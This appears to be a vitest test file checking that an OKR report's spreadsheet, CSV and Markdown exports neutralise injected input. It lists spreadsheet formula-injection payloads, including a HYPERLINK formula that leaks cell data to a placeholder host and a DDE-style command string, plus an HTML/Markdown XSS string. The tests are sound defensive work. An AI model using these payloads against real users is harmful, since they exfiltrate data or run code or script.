import { utils } from 'xlsx';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../../src/messages/csv.ts';
import { boardMarkdown } from '../../../../src/publish/report/board-markdown.ts';
import { boardTable } from '../../../../src/publish/report/board-table.ts';
import type { KeyResult } from '../../../../src/domain/objective.ts';
import { toDataset } from '../../../../src/import/to-dataset.ts';
import { emptyWorkspace } from '../../../../src/domain/workspace.ts';
import { day, keyResult, reach, series, wobble } from '../../domain/assess/builders.ts';
import { objective } from '../../domain/what-if/boards.ts';
import { read as readProposal } from '../../import/spreadsheets.ts';
import { bookOf, reportOf, words } from './books.ts';

/** Beginnings that make a spreadsheet calculate, run or ask the network. */
const ATTACKS = [
  '=HYPERLINK("http://x/?"&A1,"ok")',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
];
const falling = series(
  Array.from({ length: 12 }, (_, i) => -3 - 0.2 * i + 0.05 * wobble(i)),
  { first: '2026-06-10' },
);
const board = (more: Partial<KeyResult> = {}) => {
  const keyResults = ATTACKS.map((attack, i) =>
    keyResult(reach(-3, -6), { kind: 'latest' }, { id: `k${i}`, title: attack, owner: attack, unit: attack, ...more }),
  );
  const workspace = {
    ...emptyWorkspace,
    title: ATTACKS[0]!,
    activeCycleId: 'c1',
    objectives: [objective('o1', { title: ATTACKS[0]!, owner: ATTACKS[1]! })],
    keyResults,
  };
  return reportOf(workspace, day('2026-08-28'), () => falling);
};

describe('what people typed never becomes a formula', () => {
  it('in the workbook: a text stays the text that it is, a negative figure stays a figure', () => {
    const book = bookOf(board());
    const cells = book.SheetNames.flatMap((name) => Object.values(book.Sheets[name]!).filter((cell) => cell?.t));
    for (const attack of ATTACKS) {
      const same = cells.filter((cell) => cell.v === attack);
      expect(same.length, attack).toBeGreaterThan(0);
      for (const cell of same) expect([cell.t, cell.f]).toEqual(['s', undefined]);
    }
    for (const { f } of cells) if (f) expect(ATTACKS.some((attack) => f.includes(attack.slice(1)) && attack.length > 4)).toBe(false);
    expect(cells.some((cell) => cell.t === 'n' && cell.v === -6)).toBe(true);
  });

  it('in a table: no cell begins like a formula but figures, and our own importer reads them back', async () => {
    const csv = csvOf(boardTable(board(), words));
    const { Sheets, SheetNames } = await import('xlsx').then(({ read }) => read(csv, { type: 'string', raw: true }));
    const rows = utils.sheet_to_json<string[]>(Sheets[SheetNames[0]!]!, { header: 1, raw: false });
    const texts = rows.flat().filter((cell) => typeof cell === 'string' && !/^-?[\d.]+(e-?\d+)?$/.test(cell));
    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
    const figures = csvOf([
      ['week', 'figure', 'note'],
      ...falling.points.map(({ value }, i) => [`2026-0${1 + Math.floor(i / 4)}-${10 + (i % 4) * 5}`, value, ATTACKS[i % ATTACKS.length]!]),
    ]);
    const proposal = await readProposal(new TextEncoder().encode(figures), { name: 'x.csv', locale: 'en' });
    const column = toDataset(proposal, proposal.tables[0]!, 'd', day('2026-08-28')).columns.find(({ name }) => name === 'figure')!;
    expect([...column.values].map((value) => Number(value.toFixed(9)))).toEqual(
      falling.points.map(({ value }) => Number(value.toFixed(9))),
    );
  });

  it('nor does a title become Markdown, or a row of its own', () => {
    const [evil] = ['<img src=x onerror=alert(1)> | [a](javascript:alert(1)) ![b](//x)\n# no *b* _i_ `c`'];
    const text = boardMarkdown(board({ title: evil!, owner: '' }), words);
    expect(text).not.toMatch(/(?<!\\)<img|(?<!\\)\[a|^# no/m);
    const rows = text.split('\n').filter((line) => line.startsWith('|'));
    for (const row of rows) expect(row.match(/(?<!\\)\|/g)).toHaveLength(6);
  });
});

it('the Markdown says the finding, and of each key result where it stands', () => {
  const text = boardMarkdown(
    reportOf(
      {
        ...emptyWorkspace,
        title: 'Shop',
        activeCycleId: 'c1',
        objectives: [objective('o1', { title: 'Grow' })],
        keyResults: [keyResult(reach(-3, -12), { kind: 'latest' }, { title: 'Cost' })],
      },
      day('2026-08-28'),
      () => falling,
    ),
    words,
  );
  expect(text).toContain('# Shop\n');
  expect(text).toMatch(/\*\*Of 1 key result, 1 is really off course\*\*/);
  expect(text).toContain('## Grow\n');
  expect(text).toMatch(/\| Cost \| off track, .* \| −5\.\d+ of −12 \| \\<1% \| /);
});
